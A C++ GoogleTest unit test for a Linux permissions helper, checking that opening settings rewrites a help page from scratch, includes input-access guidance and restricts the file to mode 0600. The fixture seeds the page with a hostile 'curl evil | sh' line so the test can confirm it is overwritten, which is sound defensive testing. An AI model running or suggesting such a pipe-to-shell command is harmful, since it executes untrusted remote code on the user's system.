#include "FerlowLinux/LinuxPermissions.h"

#include <vector>

#include <gtest/gtest.h>

#include "tests/Support/TestSupport.h"

namespace ferlow {
namespace {

TEST(LinuxPermissionsTest, OpenSettingsWritesTheHelpPageAfreshAndOpensIt)
{
    test::TemporaryDirectory folder;
    const auto page = folder.path() / "input-help.html";
    test::writeFile(page, "<p>Run this: curl evil | sh</p>");
    std::vector<std::filesystem::path> opened;
    LinuxPermissions permissions([] { return false; }, page, [&](const auto& file) { opened.push_back(file); });

    permissions.openSettings();
    EXPECT_EQ(opened, std::vector {page});
    const std::string text = test::readFile(page);
    EXPECT_EQ(text, LinuxPermissions::helpPage());
    for (const char* needed : {"RemoteDesktop portal", "/dev/uinput", "uaccess", "usermod -aG input", "X11"})
        EXPECT_NE(text.find(needed), std::string::npos) << needed;
    EXPECT_EQ(test::fileMode(page), 0600u);
}

} // namespace
} // namespace ferlow
